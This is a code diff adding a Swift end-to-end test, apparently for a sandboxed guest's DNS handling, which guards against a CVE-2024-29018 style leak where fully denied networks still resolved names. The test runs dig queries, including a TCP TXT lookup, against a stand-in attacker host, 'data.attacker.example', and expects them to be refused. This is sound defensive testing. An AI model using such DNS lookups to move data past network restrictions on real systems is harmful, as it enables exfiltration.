@@ -38,6 +38,23 @@ extension EndToEnd {
             }
         }
 
+        /// CVE-2024-29018 (moby): a network that may reach nothing still resolved names, and so sent data out.
+        @Test func `are the only ones where all destinations are denied`() throws {
+            try TestBed.use { bed in
+                try startKnowAll(bed)
+                let guest = try Guest(bed, shards: 1, ["--deny", "0.0.0.0/0", "--deny", "::/0"])
+                for question in [["data.attacker.example"], ["+tcp", "data.attacker.example", "TXT"]] {
+                    let answer = try guest.run(["dig", "+time=5"] + question).requireSuccess()
+                    #expect(answer.contains("status: REFUSED") && answer.contains("ANSWER: 0"), "\(answer)")
+                }
+                #expect(try guest.run(["dig", "+short", "gateway.ringway.internal"]).output == "192.168.127.1\n")
+                // With anything allowed, names are needed.
+                let other = try Guest(
+                    bed, shards: 1, ["--deny", "0.0.0.0/0", "--deny", "::/0", "--allow", "203.0.113.0/24"])
+                #expect(try other.run(["dig", "+short", "anything.example"]).output == "203.0.113.66\n")
+            }
+        }
+
         @Test func `with a wildcard are found, exact ones first`() throws {
             try TestBed.use { bed in
                 try startKnowAll(bed)
